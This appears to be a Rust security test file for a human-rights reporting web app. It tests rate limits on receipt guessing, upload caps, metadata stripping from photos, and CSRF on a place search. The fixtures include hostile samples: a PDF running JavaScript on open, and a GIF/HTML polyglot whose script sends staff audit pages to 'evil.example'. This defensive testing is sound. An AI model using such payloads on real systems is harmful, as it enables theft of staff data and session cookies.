//! Issue #9, items 5, 8, 11, 17 and 18, each written as the attack: parallel receipt guesses,
//! uploads past the limits, a photo that gives its author away, an active PDF, a GIF that is
//! also a web page, and the place a reporter types in a URL.

use std::io::Cursor;

use rocket::futures::future::join_all;
use rocket::http::{ContentType, Header, Status};
use rocket::local::blocking::Client;
use serde_json::{json, Value};

use crate::accounts::{add_user, sign_in, PW};
use crate::common::*;

fn runtime() -> rocket::tokio::runtime::Runtime {
    rocket::tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap()
}

fn report_form(csrf: &str) -> Vec<(&'static str, String)> {
    vec![
        ("csrf", csrf.to_string()),
        ("violations", "integrity.beating".into()),
        ("narrative", "Des gendarmes ont frappé mon voisin devant la mairie de Sévaré.".into()),
        ("occurred_on", "2026-10-20".into()),
        ("date_precision", "exact".into()),
        ("lat", "14.5400".into()),
        ("lon", "-4.0900".into()),
        ("location_method", "map".into()),
        ("force", "gendarmerie".into()),
        ("reporter_relation", "witness".into()),
        ("action", "submit".into()),
    ]
}

fn post_report(
    client: &Client,
    fields: &[(&str, String)],
    files: &[(&str, &str, &[u8])],
) -> (Status, String) {
    let f: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let (ct, body) = multipart(&f, files);
    let r = client.post("/reports").header(ct).body(body).dispatch();
    (r.status(), r.into_string().unwrap_or_default())
}

/// Files a report with these files through the form; returns its receipt.
pub(crate) fn file_with(client: &Client, files: &[(&str, &str, &[u8])]) -> String {
    let token = csrf(client);
    let (status, html) = post_report(client, &report_form(&token), files);
    assert_eq!(status, Status::Created, "{}", &html[..html.len().min(3000)]);
    between(&html, "id=\"receipt\">").expect("a receipt")
}

fn attach(client: &Client, receipt: &str, name: &str, data: &[u8]) -> (Status, String) {
    let token = csrf(client);
    let (ct, body) = multipart(&[("csrf", &token), ("receipt", receipt)], &[("file", name, data)]);
    let r = client.post("/receipt/attachments").header(ct).body(body).dispatch();
    (r.status(), r.into_string().unwrap_or_default())
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

fn staff_client(db: &TestDb) -> Client {
    Client::tracked(vigie::build(figment(db).merge(("totp_required_roles", Vec::<String>::new()))).unwrap())
        .unwrap()
}

fn staff_post(c: &Client, path: &str, body: &str) -> (Status, Option<String>) {
    let token = csrf(c);
    let r = c.post(path).header(ContentType::Form).body(format!("csrf={token}&{body}")).dispatch();
    (r.status(), r.headers().get_one("Location").map(String::from))
}

/// Opens an event for report 1, adds a beating allegation and routes it (to the CNDH).
fn route_report_one_to_cndh(intake: &Client) {
    let (s, loc) = staff_post(intake, "/staff/reports/1/events", "title=Sévaré&prior_approach=false");
    assert_eq!(s, Status::SeeOther);
    let event: i32 = loc.unwrap().rsplit('/').next().unwrap().parse().unwrap();
    let body = "violation_type=integrity.beating&force=gendarmerie&involvement=carried_out&confidence=probable&victim_count=1";
    assert_eq!(staff_post(intake, &format!("/staff/events/{event}/allegations"), body).0, Status::SeeOther);
    assert_eq!(staff_post(intake, &format!("/staff/events/{event}/route"), "").0, Status::SeeOther);
}

/// A photo as a phone writes it: an EXIF block with the GPS position and the phone's serial
/// number, and an XMP packet with the position again.
fn phone_photo() -> Vec<u8> {
    let img = image::RgbImage::from_fn(16, 12, |x, y| image::Rgb([(x * 15) as u8, (y * 20) as u8, 90]));
    let mut out = Cursor::new(Vec::new());
    image::DynamicImage::ImageRgb8(img).write_to(&mut out, image::ImageFormat::Jpeg).unwrap();
    let mut jpeg = out.into_inner();
    // TIFF, big-endian. IFD0 (at 8): GPSInfo -> 38, BodySerialNumber -> 92.
    let mut t: Vec<u8> = b"MM\0\x2a\0\0\0\x08".to_vec();
    let entry = |t: &mut Vec<u8>, tag: u16, typ: u16, count: u32, value: u32| {
        t.extend_from_slice(&tag.to_be_bytes());
        t.extend_from_slice(&typ.to_be_bytes());
        t.extend_from_slice(&count.to_be_bytes());
        t.extend_from_slice(&value.to_be_bytes());
    };
    t.extend_from_slice(&2u16.to_be_bytes());
    entry(&mut t, 0x8825, 4, 1, 38);
    entry(&mut t, 0xA431, 2, 14, 92);
    t.extend_from_slice(&0u32.to_be_bytes());
    // GPS IFD (at 38): latitude ref "N", latitude -> 68.
    t.extend_from_slice(&2u16.to_be_bytes());
    entry(&mut t, 0x0001, 2, 2, u32::from_be_bytes(*b"N\0\0\0"));
    entry(&mut t, 0x0002, 5, 3, 68);
    t.extend_from_slice(&0u32.to_be_bytes());
    for (n, d) in [(14u32, 1u32), (32, 1), (2400, 100)] {
        t.extend_from_slice(&n.to_be_bytes());
        t.extend_from_slice(&d.to_be_bytes());
    }
    assert_eq!(t.len(), 92);
    t.extend_from_slice(b"SN-VIGIE-7731\0");
    let mut exif = b"Exif\0\0".to_vec();
    exif.extend_from_slice(&t);
    let xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:Description exif:GPSLatitude='14,32.4N' exif:GPSLongitude='4,5.4W'/></x:xmpmeta>";
    let mut segments = vec![];
    for payload in [exif.as_slice(), xmp.as_slice()] {
        segments.extend_from_slice(&[0xFF, 0xE1]);
        segments.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
        segments.extend_from_slice(payload);
    }
    jpeg.splice(2..2, segments);
    jpeg
}

// ---- Item 5: receipt guessing ---------------------------------------------------------------

#[test]
fn three_hundred_parallel_receipt_guesses_get_at_most_the_hourly_limit_of_answers() {
    each_engine(|engine| {
        let db = TestDb::new(engine);
        // The hourly budget is what is tested: a look-up queue long enough for every guess
        // (past `receipt_argon2_queue` a guess is answered 503 with its try given back, which
        // answers nothing: `security_accounts::a_flood_of_right_receipt_look_ups_…`).
        let rocket = vigie::build(figment(&db).merge(("receipt_argon2_queue", 1000))).unwrap();
        runtime().block_on(async {
            let client = rocket::local::asynchronous::Client::tracked(rocket).await.unwrap();
            let r = client
                .post("/api/v1/reports")
                .header(ContentType::JSON)
                .body(
                    json!({"narrative": "Un policier a frappé un vendeur au marché de Médina Coura.",
                           "occurred_on": "2026-10-03", "violations": ["integrity.beating"], "force": "police",
                           "location": {"lat": 12.6392, "lon": -8.0029}})
                    .to_string(),
                )
                .dispatch()
                .await;
            assert_eq!(r.status(), Status::Created);
            let good = r.into_json::<Value>().await.unwrap()["receipt"].as_str().unwrap().to_string();
            let guesses = (0..300u64).map(|i| {
                let client = &client;
                async move {
                    let receipt = format!("{:016}", 4_242_000_000_000_000u64 + i * 7919);
                    client
                        .post("/api/v1/receipts/status")
                        .header(ContentType::JSON)
                        .body(json!({ "receipt": receipt }).to_string())
                        .dispatch()
                        .await
                        .status()
                }
            });
            let statuses = join_all(guesses).await;
            let answered = statuses.iter().filter(|s| **s != Status::TooManyRequests).count();
            assert!(answered <= 30, "{answered} of 300 parallel guesses were answered");
            assert!(statuses.iter().all(|s| *s == Status::NotFound || *s == Status::TooManyRequests));
            // Every try counted: even the right receipt waits now.
            let r = client
                .post("/api/v1/receipts/status")
                .header(ContentType::JSON)
                .body(json!({ "receipt": good }).to_string())
                .dispatch()
                .await;
            assert_eq!(r.status(), Status::TooManyRequests);
        });
    });
}

#[test]
fn right_receipts_give_their_try_back_and_wrong_ones_keep_it() {
    each_engine(|engine| {
        let app = TestApp::with_figment(TestDb::new(engine), |f| f.merge(("receipt_tries_per_hour", 3)));
        let receipt = file_with(&app.client, &[]);
        let status = |r: &str| {
            let body = json!({ "receipt": r }).to_string();
            app.client
                .post("/api/v1/receipts/status")
                .header(ContentType::JSON)
                .body(body)
                .dispatch()
                .status()
        };
        // A reporter (or many behind one operator's address) opens the report again and again.
        for _ in 0..10 {
            assert_eq!(status(&receipt), Status::Ok);
        }
        for guess in ["1111 2222 3333 4444", "5555 6666 7777 8888", "9999 0000 1111 2222"] {
            assert_eq!(status(guess), Status::NotFound);
        }
        assert_eq!(status("1234 1234 1234 1234"), Status::TooManyRequests);
        assert_eq!(status(&receipt), Status::TooManyRequests, "past the budget, every receipt waits");
    });
}

// ---- Item 8: upload limits ------------------------------------------------------------------

#[test]
fn a_receipt_cannot_add_files_past_the_report_limits_and_a_refused_file_writes_nothing() {
    each_engine(|engine| {
        let app = TestApp::with_figment(TestDb::new(engine), |f| {
            f.merge(("report_max_files", 3)).merge(("report_daily_files", 10)).merge(("report_daily_mb", 1))
        });
        let receipt = file_with(&app.client, &[("evidence", "a.png", PNG), ("evidence", "b.png", PNG)]);
        assert_eq!(attach(&app.client, &receipt, "c.png", PNG).0, Status::Created);
        let (status, html) = attach(&app.client, &receipt, "d.png", PNG);
        assert_eq!(status, Status::UnprocessableEntity);
        assert!(html.contains("contient déjà autant de fichiers"), "a clear message");
        assert_eq!(count(&app.db, "attachments"), 3);

        // Bytes per day: 1 MiB for this report today; a second 600 KB file is refused.
        let mut heavy = b"%PDF-1.4\n".to_vec();
        heavy.resize(600 * 1024, b' ');
        let receipt = file_with(&app.client, &[("evidence", "a.pdf", &heavy)]);
        let (status, html) = attach(&app.client, &receipt, "b.pdf", &heavy);
        assert_eq!(status, Status::UnprocessableEntity);
        assert!(html.contains("assez de fichiers pour aujourd"), "a clear message");
        assert_eq!(count(&app.db, "attachments"), 4);
        // The API says the same.
        let (ct, body) = multipart(&[("receipt", &receipt)], &[("file", "b.pdf", &heavy)]);
        let r = app.client.post("/api/v1/receipts/attachments?lang=en").header(ct).body(body).dispatch();
        assert_eq!(r.status(), Status::UnprocessableEntity);
        assert!(r.into_string().unwrap().contains("enough files for today"));
        assert_eq!(count(&app.db, "attachments"), 4);
    });
}

#[test]
fn one_client_cannot_fill_the_disk_through_many_reports() {
    each_engine(|engine| {
        let app = TestApp::with_figment(TestDb::new(engine), |f| {
            f.merge(("client_upload_mb_per_hour", 1)).merge(("reports_per_hour", 100))
        });
        let mut heavy = b"%PDF-1.4\n".to_vec();
        heavy.resize(600 * 1024, b' ');
        let receipt = file_with(&app.client, &[("evidence", "a.pdf", &heavy)]);
        // A second report with as much: past this client's hour of uploads, refused unread.
        let token = csrf(&app.client);
        let (status, _) = post_report(&app.client, &report_form(&token), &[("evidence", "b.pdf", &heavy)]);
        assert_eq!(status, Status::TooManyRequests);
        let (ct, body) = multipart(&[("receipt", &receipt)], &[("file", "c.pdf", &heavy)]);
        let r = app.client.post("/api/v1/receipts/attachments").header(ct).body(body).dispatch();
        assert_eq!(r.status(), Status::TooManyRequests);
        assert_eq!(count(&app.db, "reports"), 1);
        assert_eq!(count(&app.db, "attachments"), 1);
        // Reports without files are still taken.
        assert_eq!(post_report(&app.client, &report_form(&token), &[]).0, Status::Created);
    });
}

#[test]
fn parallel_uploads_through_one_receipt_never_pass_the_report_limit() {
    each_engine(|engine| {
        let db = TestDb::new(engine);
        let fig = figment(&db).merge(("report_max_files", 3));
        let rocket = vigie::build(fig).unwrap();
        runtime().block_on(async {
            let client = rocket::local::asynchronous::Client::tracked(rocket).await.unwrap();
            let page = client.get("/reports/new").dispatch().await.into_string().await.unwrap();
            let token =
                between(&page, "name=\"csrf\" value=\"").unwrap().split('"').next().unwrap().to_string();
            let fields = report_form(&token);
            let f: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let (ct, body) = multipart(&f, &[("evidence", "a.png", PNG)]);
            let r = client.post("/reports").header(ct).body(body).dispatch().await;
            assert_eq!(r.status(), Status::Created);
            let receipt = between(&r.into_string().await.unwrap(), "id=\"receipt\">").unwrap();
            let uploads = (0..8).map(|_| {
                let (client, receipt, token) = (&client, receipt.clone(), token.clone());
                async move {
                    let (ct, body) =
                        multipart(&[("csrf", &token), ("receipt", &receipt)], &[("file", "x.png", PNG)]);
                    client.post("/receipt/attachments").header(ct).body(body).dispatch().await.status()
                }
            });
            let statuses = join_all(uploads).await;
            let added = statuses.iter().filter(|s| **s == Status::Created).count();
            assert_eq!(added, 2, "{statuses:?}");
        });
        assert_eq!(count(&db, "attachments"), 3);
    });
}

#[test]
fn file_counts_and_sizes_are_refused_before_any_file_is_read_and_nothing_is_written() {
    each_engine(|engine| {
        let app = TestApp::with_figment(TestDb::new(engine), |f| {
            f.merge(("upload_max_files", 2)).merge(("report_daily_mb", 1))
        });
        let token = csrf(&app.client);
        // Too many files: refused by their count, before their contents are looked at (the
        // old code read and rejected the first one for its type).
        let files: Vec<(&str, &str, &[u8])> = vec![("evidence", "x.jpg", b"#!/bin/sh\n"); 3];
        let (status, html) = post_report(&app.client, &report_form(&token), &files);
        assert_eq!(status, Status::UnprocessableEntity);
        assert!(html.contains("Trop de fichiers") && !html.contains("ni une photo"));
        // Two files of 600 KB on a new report, past its 1 MiB for the day: refused by size.
        let mut heavy = b"%PDF-1.4\n".to_vec();
        heavy.resize(600 * 1024, b' ');
        let files: Vec<(&str, &str, &[u8])> = vec![("evidence", "a.pdf", &heavy); 2];
        let (status, html) = post_report(&app.client, &report_form(&token), &files);
        assert_eq!(status, Status::UnprocessableEntity);
        assert!(html.contains("assez de fichiers pour aujourd"));
        assert_eq!(count(&app.db, "reports"), 0);
        assert_eq!(count(&app.db, "attachments"), 0);
        assert_eq!(count(&app.db, "audit_log"), 0);
    });
}

// ---- Items 11 and 17: what staff are shown --------------------------------------------------

#[test]
fn a_photo_reaches_case_workers_without_gps_or_serial_and_the_original_only_the_auditor() {
    each_engine(|engine| {
        let app = TestApp::with_figment(TestDb::new(engine), |f| {
            f.merge(("totp_required_roles", Vec::<String>::new()))
        });
        add_user(&app.db, "intake@vigie.ml", "intake", None);
        add_user(&app.db, "inv@cndh.ml", "investigator", Some("cndh"));
        add_user(&app.db, "audit@vigie.ml", "auditor", None);
        let photo = phone_photo();
        assert!(contains(&photo, b"Exif\0\0") && contains(&photo, b"SN-VIGIE-7731"));
        file_with(&app.client, &[("evidence", "IMG_0001.jpg", &photo)]);

        let intake = staff_client(&app.db);
        sign_in(&intake, "intake@vigie.ml", PW);
        route_report_one_to_cndh(&intake);
        let inv = staff_client(&app.db);
        sign_in(&inv, "inv@cndh.ml", PW);
        let r = inv.get("/staff/attachments/1").dispatch();
        assert_eq!(r.status(), Status::Ok);
        assert_eq!(r.content_type(), Some(ContentType::JPEG));
        assert!(r.headers().get_one("Content-Disposition").unwrap().starts_with("attachment"));
        let copy = r.into_bytes().unwrap();
        assert!(copy.starts_with(&[0xFF, 0xD8]));
        for leak in [&b"Exif"[..], b"SN-VIGIE-7731", b"ns.adobe.com/xap", b"GPSLatitude"] {
            assert!(!contains(&copy, leak), "the case worker's copy holds {}", String::from_utf8_lossy(leak));
        }
        let decoded = image::load_from_memory(&copy).unwrap();
        assert_eq!((decoded.width(), decoded.height()), (16, 12));
        // The original: not for the case worker nor the intake officer (404), for the auditor.
        assert_eq!(inv.get("/staff/attachments/1/original").dispatch().status(), Status::NotFound);
        assert_eq!(intake.get("/staff/attachments/1/original").dispatch().status(), Status::NotFound);
        let auditor = staff_client(&app.db);
        sign_in(&auditor, "audit@vigie.ml", PW);
        let r = auditor.get("/staff/attachments/1/original").dispatch();
        assert_eq!(r.status(), Status::Ok);
        assert_eq!(r.into_bytes().unwrap(), photo, "the original, byte for byte");
        // The SHA-256 of the original is still shown to the case worker, and the page says what
        // the copy is.
        let sha = vigie::crypto::sha256_hex(&photo);
        let case_page = inv.get("/staff/cases/1").dispatch().into_string().unwrap();
        assert!(case_page.contains(&sha), "the original's SHA-256 on the case page");
        assert!(case_page.contains("copie sans métadonnées"));
        let report_page = auditor.get("/staff/reports/1").dispatch().into_string().unwrap();
        assert!(report_page.contains(&sha) && report_page.contains("/staff/attachments/1/original"));
        // Every read is in the audit log.
        let mut c = app.db.conn();
        use diesel::prelude::*;
        use vigie::schema::audit_log;
        let actions: Vec<String> = audit_log::table
            .filter(audit_log::action.like("attachment.%"))
            .order(audit_log::id)
            .select(audit_log::action)
            .load(&mut c)
            .unwrap();
        assert_eq!(actions, ["attachment.download", "attachment.original"]);
    });
}

#[test]
fn case_workers_see_a_thumbnail_of_the_metadata_free_copy_and_nobody_else_does() {
    each_engine(|engine| {
        let app = TestApp::with_figment(TestDb::new(engine), |f| {
            f.merge(("totp_required_roles", Vec::<String>::new()))
        });
        add_user(&app.db, "intake@vigie.ml", "intake", None);
        add_user(&app.db, "inv@cndh.ml", "investigator", Some("cndh"));
        add_user(&app.db, "om@mediateur.ml", "ombudsman", Some("mediateur"));
        let photo = phone_photo();
        file_with(&app.client, &[("evidence", "IMG_0001.jpg", &photo)]);
        let intake = staff_client(&app.db);
        sign_in(&intake, "intake@vigie.ml", PW);
        route_report_one_to_cndh(&intake);
        let inv = staff_client(&app.db);
        sign_in(&inv, "inv@cndh.ml", PW);
        let case_page = inv.get("/staff/cases/1").dispatch().into_string().unwrap();
        assert!(case_page.contains("src=\"/staff/attachments/1/thumb\""), "the case page shows a thumbnail");
        let r = inv.get("/staff/attachments/1/thumb").dispatch();
        assert_eq!(r.status(), Status::Ok);
        assert_eq!(r.content_type(), Some(ContentType::PNG));
        let thumb = r.into_bytes().unwrap();
        for leak in [&b"Exif"[..], b"SN-VIGIE-7731", b"GPSLatitude"] {
            assert!(!contains(&thumb, leak));
        }
        assert!(image::load_from_memory(&thumb).unwrap().width() <= 240);
        // The other institution has no case on this report: the thumbnail does not exist.
        let om = staff_client(&app.db);
        sign_in(&om, "om@mediateur.ml", PW);
        assert_eq!(om.get("/staff/attachments/1/thumb").dispatch().status(), Status::NotFound);
        use diesel::prelude::*;
        use vigie::schema::audit_log;
        let n: i64 = audit_log::table
            .filter(audit_log::action.eq("attachment.thumbnail"))
            .count()
            .get_result(&mut app.db.conn())
            .unwrap();
        assert_eq!(n, 1, "the thumbnail view is audited like a download");
    });
}

#[test]
fn photos_saved_before_copies_existed_get_their_copy_when_the_server_starts() {
    use diesel::prelude::*;
    use vigie::schema::attachments;
    each_engine(|engine| {
        let app = TestApp::new(engine);
        let photo = phone_photo();
        file_with(&app.client, &[("evidence", "IMG_0002.jpg", &photo)]);
        let mut c = app.db.conn();
        // As a photo saved before this change: no copy.
        diesel::update(attachments::table)
            .set((
                attachments::safe_data.eq(None::<Vec<u8>>),
                attachments::safe_content_type.eq(None::<String>),
            ))
            .execute(&mut c)
            .unwrap();
        let _restarted = Client::tracked(vigie::build(figment(&app.db)).unwrap()).unwrap();
        let mut copy: Option<Vec<u8>> = None;
        for _ in 0..100 {
            copy = attachments::table.select(attachments::safe_data).first(&mut c).unwrap();
            if copy.is_some() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let copy = copy.expect("a copy made in the background");
        assert!(copy.starts_with(&[0xFF, 0xD8]) && !contains(&copy, b"SN-VIGIE-7731"));
        let original: Vec<u8> = vigie::schema::attachment_pieces::table
            .order(vigie::schema::attachment_pieces::seq)
            .select(vigie::schema::attachment_pieces::data)
            .load::<Vec<u8>>(&mut c)
            .unwrap()
            .concat();
        assert_eq!(original, photo, "the original is untouched");
    });
}

#[test]
fn the_report_form_tells_the_reporter_what_the_server_does_with_photos() {
    let app = TestApp::new(Engine::Sqlite);
    let fr = app.client.get("/reports/new").dispatch().into_string().unwrap();
    assert!(fr.contains("position GPS") && fr.contains("seul l&#x27;auditeur peut l&#x27;ouvrir"), "{fr}");
    let en = app.client.get("/reports/new?lang=en").dispatch().into_string().unwrap();
    assert!(en.contains("without its hidden data (GPS position"));
}

#[test]
fn a_pdf_with_javascript_is_flagged_and_only_ever_offered_as_a_sandboxed_download() {
    each_engine(|engine| {
        let app = TestApp::with_figment(TestDb::new(engine), |f| {
            f.merge(("totp_required_roles", Vec::<String>::new()))
        });
        add_user(&app.db, "intake@vigie.ml", "intake", None);
        let pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(document.cookie\\)) >> >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";
        file_with(&app.client, &[("evidence", "rapport.pdf", pdf)]);
        let intake = staff_client(&app.db);
        sign_in(&intake, "intake@vigie.ml", PW);
        let page = intake.get("/staff/reports/1").dispatch().into_string().unwrap();
        assert!(page.contains("PDF actif"), "the page warns about the PDF");
        let r = intake.get("/staff/attachments/1").dispatch();
        assert_eq!(r.status(), Status::Ok);
        let disposition = r.headers().get_one("Content-Disposition").unwrap().to_string();
        assert!(disposition.starts_with("attachment;"), "{disposition}");
        let csp = r.headers().get_one("Content-Security-Policy").unwrap().to_string();
        assert!(csp.starts_with("sandbox") && csp.contains("default-src 'none'"), "{csp}");
        assert_eq!(r.headers().get_one("X-Content-Type-Options"), Some("nosniff"));
    });
}

#[test]
fn a_gif_that_is_also_a_web_page_reaches_staff_as_a_plain_re_encoded_image() {
    each_engine(|engine| {
        let app = TestApp::with_figment(TestDb::new(engine), |f| {
            f.merge(("totp_required_roles", Vec::<String>::new()))
        });
        add_user(&app.db, "intake@vigie.ml", "intake", None);
        let mut gif = Cursor::new(Vec::new());
        image::DynamicImage::new_rgba8(3, 2).write_to(&mut gif, image::ImageFormat::Gif).unwrap();
        let mut gif = gif.into_inner();
        let payload = b"<html><body><script>fetch('/staff/audit').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></body></html>";
        gif.extend_from_slice(payload);
        file_with(&app.client, &[("evidence", "photo.gif", &gif)]);
        let intake = staff_client(&app.db);
        sign_in(&intake, "intake@vigie.ml", PW);
        let r = intake.get("/staff/attachments/1").dispatch();
        assert_eq!(r.status(), Status::Ok);
        assert_eq!(r.content_type(), Some(ContentType::PNG));
        assert_eq!(r.headers().get_one("X-Content-Type-Options"), Some("nosniff"));
        let body = r.into_bytes().unwrap();
        assert!(body.starts_with(b"\x89PNG"));
        assert!(!contains(&body, b"<script") && !contains(&body, b"<html"));
        assert_eq!(image::load_from_memory(&body).unwrap().width(), 3);
    });
}

// ---- Item 18: the place search --------------------------------------------------------------

#[test]
fn the_place_a_reporter_types_never_travels_in_a_url() {
    each_engine(|engine| {
        let app = TestApp::new(engine);
        // The old way, a query string a proxy logs, is gone: only POST is allowed there.
        let r = app.client.get("/api/v1/places?q=tombouctou&limit=3").dispatch();
        assert_eq!(r.status(), Status::MethodNotAllowed);
        assert_eq!(r.headers().get_one("Allow"), Some("POST"));
        // The script's way: a POST with the form's CSRF token in a header.
        let token = csrf(&app.client);
        let body = json!({"q": "tombouctou", "limit": 3}).to_string();
        let r = app.client.post("/api/v1/places").header(ContentType::JSON).body(body.clone()).dispatch();
        assert_eq!(r.status(), Status::Forbidden, "a browser holding the CSRF cookie must echo it");
        let r = app
            .client
            .post("/api/v1/places")
            .header(ContentType::JSON)
            .header(Header::new("X-CSRF-Token", token.clone()))
            .body(body.clone())
            .dispatch();
        assert_eq!(r.status(), Status::Ok);
        let v: Value = r.into_json().unwrap();
        assert_eq!(v[0]["region"]["code"], "ML-6", "{v}");
        // A gateway without cookies needs no token.
        let gateway = Client::untracked(vigie::build(figment(&app.db)).unwrap()).unwrap();
        let r = gateway.post("/api/v1/places").header(ContentType::JSON).body(body).dispatch();
        assert_eq!(r.status(), Status::Ok);
        // The script posts; it builds no URL with the text in it.
        let js = std::fs::read_to_string("static/report.js").unwrap();
        assert!(js.contains("method: \"POST\"") && !js.contains("&q=") && !js.contains("?q="));
        // Without JavaScript: the form's own POST, which keeps its CSRF check.
        let mut fields = report_form(&token);
        fields.retain(|(k, _)| !matches!(*k, "lat" | "lon" | "action"));
        fields.push(("place_query", "tombouctou".into()));
        fields.push(("action", "search_place".into()));
        let (status, html) = post_report(&app.client, &fields, &[]);
        assert_eq!(status, Status::Ok);
        assert!(html.contains("Tombouctou"));
        fields.retain(|(k, _)| *k != "csrf");
        assert_eq!(post_report(&app.client, &fields, &[]).0, Status::BadRequest);
        assert_eq!(count(&app.db, "reports"), 0);
    });
}

/// Issue 18, item 7: a file's bytes are stored before the report that links them. A file
/// stored but never linked (its request failed in between) is nobody's to read, and is deleted
/// by the sweep once more than a day old; linked files are never touched.
#[test]
fn staged_files_never_linked_are_unreadable_and_swept_after_a_day() {
    use diesel::prelude::*;
    use vigie::schema::attachments;
    each_engine(|engine| {
        let app = TestApp::new(engine);
        file_with(&app.client, &[("evidence", "a.png", PNG)]);
        let mut c = app.db.conn();
        let today = chrono::Utc::now().date_naive();
        let stage = |c: &mut vigie::db::DbConn, on: chrono::NaiveDate| -> i32 {
            diesel::insert_into(attachments::table)
                .values((
                    attachments::report_id.eq(None::<i32>),
                    attachments::kind.eq("image"),
                    attachments::content_type.eq("image/png"),
                    attachments::size_bytes.eq(PNG.len() as i32),
                    attachments::sha256.eq("0"),
                    attachments::uploaded_on.eq(on),
                ))
                .returning(attachments::id)
                .get_result(c)
                .unwrap()
        };
        let old = stage(&mut c, today - chrono::Days::new(3));
        let fresh = stage(&mut c, today);
        // The auditor, who may read every original, cannot read a staged file.
        add_user(&app.db, "audit@vigie.ml", "auditor", None);
        let auditor = staff_client(&app.db);
        sign_in(&auditor, "audit@vigie.ml", PW);
        for id in [old, fresh] {
            assert_eq!(
                auditor.get(format!("/staff/attachments/{id}/original")).dispatch().status(),
                Status::NotFound
            );
        }
        assert_eq!(auditor.get("/staff/attachments/1/original").dispatch().status(), Status::Ok);
        // The sweep runs when the server starts, then every hour.
        let _restarted = Client::tracked(vigie::build(figment(&app.db)).unwrap()).unwrap();
        let mut left: Vec<i32> = vec![];
        for _ in 0..100 {
            left = attachments::table.select(attachments::id).order(attachments::id).load(&mut c).unwrap();
            if !left.contains(&old) {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        assert_eq!(left, vec![1, fresh], "the old staged file swept, the linked and the fresh one kept");
    });
}

/// Issue 18, item 7: a burst of reports with files, more than the connection pool, while staff
/// work: every report is filed with its files, the staff page answers during the burst, and
/// nothing is left staged.
#[test]
fn a_burst_of_uploads_larger_than_the_pool_files_every_report_and_staff_pages_still_answer() {
    use diesel::prelude::*;
    use vigie::schema::attachments;
    each_engine(|engine| {
        let db = TestDb::new(engine);
        let fig = figment(&db)
            .merge(("db_pool_size", 4))
            .merge(("reports_per_hour", 1000))
            .merge(("client_upload_mb_per_hour", 1000))
            .merge(("totp_required_roles", Vec::<String>::new()));
        let rocket = vigie::build(fig).unwrap();
        add_user(&db, "intake@vigie.ml", "intake", None);
        let mut pdf = b"%PDF-1.4\n".to_vec();
        pdf.resize(2 * 1024 * 1024, b' ');
        runtime().block_on(async {
            let client = rocket::local::asynchronous::Client::tracked(rocket).await.unwrap();
            let page = client.get("/reports/new").dispatch().await.into_string().await.unwrap();
            let token =
                between(&page, "name=\"csrf\" value=\"").unwrap().split('"').next().unwrap().to_string();
            let uploads = (0..12).map(|i| {
                let (client, token, pdf) = (&client, token.clone(), &pdf);
                async move {
                    let fields = report_form(&token);
                    let f: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
                    let name = format!("{i}.pdf");
                    let (ct, body) = multipart(&f, &[("evidence", &name, pdf), ("evidence", "b.png", PNG)]);
                    client.post("/reports").header(ct).body(body).dispatch().await.status()
                }
            });
            let staff = async {
                let login = client.get("/staff/sign-in").dispatch().await.into_string().await.unwrap();
                let t =
                    between(&login, "name=\"csrf\" value=\"").unwrap().split('"').next().unwrap().to_string();
                let body = format!("csrf={t}&email=intake%40vigie.ml&password={}", PW.replace(' ', "+"));
                client.post("/staff/sign-in").header(ContentType::Form).body(body).dispatch().await;
                client.get("/staff/triage").dispatch().await.status()
            };
            let (statuses, staff) = rocket::tokio::join!(join_all(uploads), staff);
            assert!(statuses.iter().all(|s| *s == Status::Created), "{statuses:?}");
            assert_eq!(staff, Status::Ok);
        });
        let mut c = db.conn();
        let linked: i64 = attachments::table
            .filter(attachments::report_id.is_not_null())
            .count()
            .get_result(&mut c)
            .unwrap();
        let staged: i64 =
            attachments::table.filter(attachments::report_id.is_null()).count().get_result(&mut c).unwrap();
        assert_eq!((linked, staged), (24, 0));
        assert_eq!(count(&db, "reports"), 12);
    });
}

/// Found in review (session 19): a text field of a form sent with files was read whole into
/// memory (Rocket 0.5.2 bounded it only by the whole form's limit, 126 MiB here) before the
/// token, the limits or the handler looked at it, and the refused form then echoed it several
/// times over. Each text part is now held to the `string` limit as it arrives
/// (vendor/VIGIE-PATCH.md): 413 and a short page, nothing written. A long narrative in a
/// script of two bytes a character still goes through.
#[test]
fn a_huge_text_part_in_a_multipart_form_is_refused_as_it_arrives() {
    each_engine(|engine| {
        let app = TestApp::new(engine);
        let token = csrf(&app.client);
        let huge = "x".repeat(4 << 20);
        let mut fields = report_form(&token);
        fields.retain(|(k, _)| *k != "narrative");
        fields.push(("narrative", huge.clone()));
        let (status, html) = post_report(&app.client, &fields, &[("evidence", "a.png", PNG)]);
        assert_eq!(status, Status::PayloadTooLarge);
        assert!(html.len() < 100_000, "a short page, not the text back ({} bytes)", html.len());
        let (ct, body) = multipart(&[("csrf", &token), ("receipt", &huge)], &[("file", "a.png", PNG)]);
        let r = app.client.post("/receipt/attachments").header(ct).body(body).dispatch();
        // 413, or 422 when the form also misses a field it needs (the larger code is answered).
        assert!(matches!(r.status().code, 413 | 422), "{}", r.status());
        assert!(r.into_string().unwrap_or_default().len() < 100_000);
        assert_eq!(count(&app.db, "reports"), 0);
        assert_eq!(count(&app.db, "attachments"), 0);

        let mut fields = report_form(&token);
        fields.retain(|(k, _)| *k != "narrative");
        fields.push(("narrative", "ߊ".repeat(19_000)));
        let (status, html) = post_report(&app.client, &fields, &[("evidence", "a.png", PNG)]);
        assert_eq!(status, Status::Created, "{}", &html[..html.len().min(2000)]);
        assert_eq!(count(&app.db, "reports"), 1);
    });
}
